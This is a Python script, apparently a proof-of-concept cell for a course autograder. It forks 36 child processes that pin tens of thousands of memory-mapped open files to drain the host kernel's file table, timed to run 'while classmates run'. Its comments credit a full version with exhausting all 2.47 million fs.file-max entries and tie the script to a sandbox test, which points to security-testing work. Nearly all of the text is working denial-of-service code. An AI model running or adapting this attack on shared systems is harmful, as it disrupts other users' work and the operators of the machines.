# Fill the host's file table: 36 children each open and map a small file many times (MAP_SHARED) and close
# the descriptors; the mappings keep every open file alive. The version (65,000 maps per child)
# took all 2.47 million entries of fs.file-max; here each child maps 2,000 (72,000 files, ~30 MB of kernel
# memory): the bound it proves is measured at full scale in tests/autograde/test_sandbox.py, without taking
# the test machine's file table. The children hold their files for 2 s (while classmates run), then go.
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
with open("/tmp/nncourse-attack-small", "wb") as fh:
    fh.write(b"x" * 4096)
children = []
for c in range(36):
    pid = os.fork()
    if pid == 0:  # a copy of the kernel: it must never return into the kernel's code (nor take its SIGINT)
        try:
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            for _ in range(2000):
                fd = os.open("/tmp/nncourse-attack-small", os.O_RDONLY)
                addr = libc.mmap(None, 4096, 1, 1, fd, 0)  # PROT_READ, MAP_SHARED
                os.close(fd)
                if addr in (None, 2**64 - 1):
                    break
            time.sleep(60)
        finally:
            os._exit(0)
    children.append(pid)
time.sleep(2)
for pid in children:  # before its own tests: the attacker keeps its own points
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
